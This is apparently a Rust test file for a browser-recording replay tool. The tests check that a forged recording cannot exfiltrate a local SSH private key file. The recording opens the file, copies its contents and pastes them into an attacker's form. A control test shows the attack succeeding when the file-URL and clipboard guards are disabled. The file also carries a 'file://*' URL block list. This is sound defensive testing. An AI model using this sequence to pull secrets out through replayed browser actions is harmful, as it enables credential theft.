//! Replay as a way out of the machine: a forged recording that opens a
//! local file, selects all, copies, opens an attacker's page, pastes and
//! sends. Every guard is tested with the one next to it turned off, so
//! each test shows that its guard is what stops the attack.

mod common;

use clawtrail_driver::{ReplayError, StepStatus, replay, replay_prefs};
use common::*;
use workflow_format::{EventKind, KeyEvent, Modifiers, Problem, Recording};

const CANARY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- canary-5d41402abc4b2a76";

fn ctrl(key: &str, target: Option<workflow_format::Target>) -> EventKind {
    EventKind::Key(KeyEvent {
        key: key.into(),
        code: format!("Key{}", key.to_uppercase()),
        modifiers: Modifiers {
            ctrl: true,
            ..Modifiers::default()
        },
        target,
    })
}

/// The attack of issue 14, as a recording: start at `file_url`, Ctrl+A,
/// Ctrl+C, type the attacker's URL, paste into its form, send.
fn exfiltration(file_url: &str, attacker: &str) -> Recording {
    let msg = with_aria(el("textarea", "#msg"), "textbox", "Message");
    let mut rec = recording(
        "Back up my notes",
        vec![
            (1, file_url.into(), load("id_rsa.txt")),
            (1, file_url.into(), ctrl("a", None)),
            (1, file_url.into(), ctrl("c", None)),
            (1, attacker.into(), load("Contact")),
            (1, attacker.into(), click(msg.clone())),
            (1, attacker.into(), ctrl("v", Some(msg))),
            (1, attacker.into(), click(button("Send", "#send"))),
        ],
    );
    // The attacker's page was typed into the address bar well after the
    // copy: a load of its own, not something Ctrl+C caused.
    for e in &mut rec.events[3..] {
        e.at += chrono::Duration::seconds(10);
    }
    rec.ended_at += chrono::Duration::seconds(10);
    rec.validate_with(workflow_format::UrlPolicy::WebAndFiles)
        .unwrap();
    rec
}

fn secret_file() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("id_rsa.txt");
    std::fs::write(&path, CANARY).unwrap();
    let url = format!("file://{}", path.display());
    (dir, url)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_recording_that_starts_at_a_local_file_is_refused() {
    let site = site().await;
    let (files, url) = secret_file();
    let rec = exfiltration(&url, &format!("{}/p/paste", site.base));
    let mut opts = options(files.path(), &[]);
    // Even with clipboard shortcuts allowed, the file: page stops it.
    opts.allow_clipboard = true;
    let err = replay(&rec, &opts).await.unwrap_err();
    let ReplayError::Invalid(v) = &err else {
        panic!("expected the recording to be refused, got {err}");
    };
    assert_eq!(v.problem, Problem::DisallowedScheme, "{err}");
    assert!(site.log.lines().is_empty(), "{:?}", site.log.lines());
}

#[tokio::test(flavor = "multi_thread")]
async fn clipboard_shortcuts_are_not_replayed_unless_allowed() {
    let site = site().await;
    let (files, url) = secret_file();
    let rec = exfiltration(&url, &format!("{}/p/paste", site.base));
    let mut opts = options(files.path(), &[]);
    opts.allow_file_urls = true;
    let report = replay(&rec, &opts).await.unwrap();
    assert!(!report.passed);
    let statuses: Vec<StepStatus> = report.steps.iter().map(|s| s.status).collect();
    // Step 1 is Ctrl+A (it leads to a copy): the replay stops there.
    assert_eq!(
        statuses[0],
        StepStatus::LeftOut,
        "{}",
        report.render_table()
    );
    assert!(statuses[1..].iter().all(|s| *s == StepStatus::Skipped));
    let reason = report.steps[0].reason.clone().unwrap();
    assert!(reason.contains("--allow-clipboard"), "{reason}");
    assert!(report.render_table().contains("LEFT OUT"));
    assert!(site.log.lines().is_empty(), "{:?}", site.log.lines());
}

#[tokio::test(flavor = "multi_thread")]
async fn with_both_allowed_the_attack_works_which_is_why_both_are_off() {
    // The control: this is what the guards above prevent.
    let site = site().await;
    let (files, url) = secret_file();
    let rec = exfiltration(&url, &format!("{}/p/paste", site.base));
    let mut opts = options(files.path(), &[]);
    opts.allow_file_urls = true;
    opts.allow_clipboard = true;
    let report = replay(&rec, &opts).await.unwrap();
    assert!(report.passed, "{}", report.render_table());
    assert_eq!(site.log.lines(), vec![format!("sent {CANARY}")]);
}

#[test]
fn the_replay_profile_blocks_files_and_downloads_unless_files_are_allowed() {
    let dir = std::path::Path::new("/tmp/profile/downloads");
    let closed = replay_prefs(false, dir);
    assert_eq!(closed["download_restrictions"], 3);
    assert_eq!(closed["policy"]["url_blocklist"][0], "file://*");
    assert_eq!(
        closed["download"]["default_directory"],
        "/tmp/profile/downloads"
    );
    let open = replay_prefs(true, dir);
    assert_eq!(open["download_restrictions"], 3);
    assert!(
        open["policy"]["url_blocklist"]
            .as_array()
            .unwrap()
            .is_empty()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_replay_browser_itself_refuses_file_pages_and_downloads() {
    use clawtrail_driver::Browser;
    let site = site().await;
    let (files, url) = secret_file();
    let opts = options(files.path(), &[]).browser;
    // Blocked by the profile's policy, whatever drives the browser.
    let browser = Browser::launch(&opts, false).await.unwrap();
    browser.client.goto(&url).await.unwrap();
    let shown = browser
        .client
        .execute(
            "return document.body ? document.body.innerText : ''",
            vec![],
        )
        .await
        .unwrap();
    assert!(!shown.as_str().unwrap_or("").contains("canary"), "{shown}");
    // No download lands anywhere, not even in the throwaway profile.
    browser
        .client
        .goto(&format!("{}/p/download", site.base))
        .await
        .unwrap();
    browser
        .client
        .find(fantoccini::Locator::Css("#get"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    let downloads = browser.download_dir();
    let landed = std::fs::read_dir(&downloads)
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(landed, 0, "a download reached {}", downloads.display());
    browser.close().await;

    // The control: allowed, the same page shows the file.
    let browser = Browser::launch(&opts, true).await.unwrap();
    browser.client.goto(&url).await.unwrap();
    let shown = browser
        .client
        .execute("return document.body.innerText", vec![])
        .await
        .unwrap();
    assert!(shown.as_str().unwrap().contains("canary"), "{shown}");
    browser.close().await;
}
